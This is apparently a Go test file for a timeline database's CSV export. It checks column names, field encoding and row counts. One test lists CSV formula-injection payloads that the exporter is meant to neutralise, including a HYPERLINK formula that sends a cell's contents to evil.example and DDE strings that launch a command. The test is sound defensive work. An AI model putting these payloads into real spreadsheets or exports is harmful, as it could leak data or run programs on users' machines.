package render_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/goccy/go-yaml"

	tarikh "github.com/tarikh-timeline/tarikh"
	"github.com/tarikh-timeline/tarikh/internal/timeline"
)

// readCSV reads an export as RFC 4180 has it: every line ends in CRLF.
func readCSV(t testing.TB, text []byte) [][]string {
	t.Helper()
	text, marked := bytes.CutPrefix(text, []byte("\uFEFF"))
	if !marked {
		t.Error("there is no byte order mark")
	}
	if bytes.Count(text, []byte("\n")) != bytes.Count(text, []byte("\r\n")) || !bytes.HasSuffix(text, []byte("\r\n")) {
		t.Error("a line does not end in CRLF")
	}
	records, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

// rows gives the records by column.
func rows(t testing.TB, events ...timeline.Event) []map[string]string {
	t.Helper()
	records := readCSV(t, write(t, "csv", events...))
	list := []map[string]string{}
	for _, r := range records[1:] {
		row := map[string]string{}
		for i, name := range records[0] {
			row[name] = r[i]
		}
		list = append(list, row)
	}
	return list
}

func TestCSVColumnsAreThoseOfTheContract(t *testing.T) {
	t.Parallel()
	var contract struct {
		Paths map[string]struct {
			Get struct{ Description string }
		}
	}
	if err := yaml.Unmarshal(tarikh.Spec, &contract); err != nil {
		t.Fatal(err)
	}
	var stated []string
	for line := range strings.SplitSeq(contract.Paths["/v1/events.csv"].Get.Description, "\n") {
		names, _, _ := strings.Cut(strings.TrimPrefix(line, "| "), " | ")
		if strings.HasPrefix(line, "| `") {
			for _, m := range regexp.MustCompile("`([a-z_]+)`").FindAllStringSubmatch(names, -1) {
				stated = append(stated, m[1])
			}
		}
	}
	if heading := readCSV(t, write(t, "csv"))[0]; !slices.Equal(heading, stated) {
		t.Errorf("the heading is\n%q\nthe contract has\n%q", heading, stated)
	}
}

func TestCSVRowOfAWholeEvent(t *testing.T) {
	t.Parallel()
	e := event(t, "a", "2021-07/2023", func(e *timeline.Event) {
		e.Title = timeline.Text{"ar": "انقلاب، في \"مالي\"", "en": "Line one\nline two", "pt-BR": "Golpe"}
		e.Summary = timeline.Text{"fr": "Coup d’État"}
		e.Countries = []timeline.CountryRole{{Code: "MLI", Role: "location"}, {Code: "MLI", Role: "affected"}, {Code: "NER", Role: "participant"}}
		e.Actors = []timeline.Actor{{Name: timeline.Text{"fr": "Armée", "ar": "جيش"}, Kind: "organisation", Role: "initiator", Country: "MLI"}, {Name: timeline.Text{"en": "ECOWAS"}, Kind: "organisation", Role: "mediator"}}
		e.Location = &timeline.Location{Name: timeline.Text{"en": "Bamako"}, Latitude: 12.65, Longitude: -8, Precision: "city"}
		e.Measures = map[string]float64{"deaths": 12, "deaths_low": 0, "magnitude": 7.5}
		e.Tags = []string{"one", "two"}
		e.Sources = []timeline.Source{{Title: "T", URL: "https://example.org/1", Language: "en"}, {Language: "ar", Quote: "قول"}}
		e.Links = []timeline.Link{{Relation: "follows", Event: "b"}}
		e.Attributes = map[string]string{"k": "v"}
	})
	want := map[string]string{
		"id": "a", "dataset": "sahel", "type": "coup", "status": "occurred",
		"date_edtf": "2021-07/2023", "date_label_ar": e.Date.Label("ar"), "date_label_en": "July 2021 to 2023", "date_label_fr": e.Date.Label("fr"), "date_precision": "interval",
		"date_earliest": "2021-07-01", "date_start_latest": "2021-07-31", "date_end_earliest": "2023-01-01", "date_latest": "2023-12-31",
		"date_approximate": "false", "date_uncertain": "false",
		"title_ar": "انقلاب، في \"مالي\"", "title_en": "Line one\nline two", "title_fr": "", "title_other": `{"pt-BR":"Golpe"}`,
		"summary_ar": "", "summary_en": "", "summary_fr": "Coup d’État", "summary_other": "",
		"countries": "MLI; NER", "country_roles": "MLI:location; MLI:affected; NER:participant", "actor_names": "Armée; ECOWAS",
		"location_name": "Bamako", "latitude": "12.65", "longitude": "-8", "location_precision": "city",
		"deaths": "12", "deaths_low": "0", "deaths_high": "", "measures": `{"deaths":12,"deaths_low":0,"magnitude":7.5}`,
		"tags": "one; two", "source_count": "2", "source_urls": "https://example.org/1",
		"actors":  `[{"name":{"ar":"جيش","fr":"Armée"},"kind":"organisation","role":"initiator","country":"MLI"},{"name":{"en":"ECOWAS"},"kind":"organisation","role":"mediator","country":null}]`,
		"sources": `[{"title":"T","publisher":null,"url":"https://example.org/1","language":"en","published":null,"quote":null,"supports":[]},{"title":null,"publisher":null,"url":null,"language":"ar","published":null,"quote":"قول","supports":[]}]`,
		"links":   `[{"relation":"follows","event":"b"}]`, "attributes": `{"k":"v"}`,
		"revision": "7", "created_at": "2026-01-02T03:04:05.000678Z", "updated_at": "2026-02-03T04:05:06.000000Z",
	}
	got := rows(t, e)[0]
	for name, value := range want {
		if got[name] != value {
			t.Errorf("%s is %q, want %q", name, got[name], value)
		}
	}
	if len(got) != len(want) {
		t.Errorf("%d columns, want %d", len(got), len(want))
	}
}

// TestCSVTextsCannotBeFormulas: every text that a writer words, in every column
// that holds one.
func TestCSVTextsCannotBeFormulas(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"=1+1", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "=cmd|' /C calc'!A0", "+1+1", "+33 6 12", "-1+1", "-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-", "'=1+1", `"=1+1`, ";=1+1", ",=1+1",
	} {
		e := event(t, "a", "2021", func(e *timeline.Event) {
			all := timeline.Text{"ar": text, "en": text, "fr": text, "de": text}
			e.Title, e.Summary = all, all
			e.Actors = []timeline.Actor{{Name: all, Kind: "person", Role: "target"}}
			e.Location = &timeline.Location{Name: all, Latitude: -1, Longitude: -2, Precision: "exact"}
			e.Tags = []string{text}
			e.Sources = []timeline.Source{{Title: text, URL: "https://example.org", Language: "en", Quote: text}}
			e.Attributes = map[string]string{"note": text}
		})
		for name, cell := range rows(t, e)[0] {
			switch name {
			case "latitude", "longitude":
				if cell != "-1" && cell != "-2" {
					t.Errorf("the number %s became %q", name, cell)
				}
				continue
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
				t.Errorf("%q: %s is %q", text, name, cell)
			}
		}
		// Nothing is lost: behind the apostrophe stands the text.
		title := rows(t, e)[0]["title_en"]
		if got := strings.TrimPrefix(title, "'"); got != strings.TrimPrefix(strings.ReplaceAll(strings.ReplaceAll(text, "\r\n", "\n"), "\r", ""), "'") {
			t.Errorf("%q became %q", text, title)
		}
	}
}

func TestCSVLeavesNumbersAndDatesAlone(t *testing.T) {
	t.Parallel()
	e := event(t, "a", "-0043-03-15", func(e *timeline.Event) {
		e.Location = &timeline.Location{Name: timeline.Text{"en": "X"}, Latitude: -18.14, Longitude: -171.76, Precision: "exact"}
	})
	row := rows(t, e)[0]
	for name, want := range map[string]string{"date_edtf": "-0043-03-15", "date_earliest": "-0043-03-15", "date_latest": "-0043-03-15", "latitude": "-18.14", "longitude": "-171.76"} {
		if row[name] != want {
			t.Errorf("%s is %q, want %q", name, row[name], want)
		}
	}
}

func TestCSVHasARowForEachEvent(t *testing.T) {
	t.Parallel()
	events := random(200)
	list := rows(t, events...)
	if len(list) != len(events) {
		t.Fatalf("%d rows of %d events", len(list), len(events))
	}
	for i, row := range list {
		e := events[i]
		if row["id"] != e.ID || row["date_edtf"] != e.Date.Expr || row["date_label_fr"] != e.Date.Label("fr") || row["title_en"] != e.Title["en"] ||
			row["date_latest"] != e.Date.EndLatest.String() || row["source_count"] != strconv.Itoa(len(e.Sources)) || row["revision"] != strconv.Itoa(i+1) {
			t.Errorf("%+v is not the row of %+v", row, e)
		}
	}
}
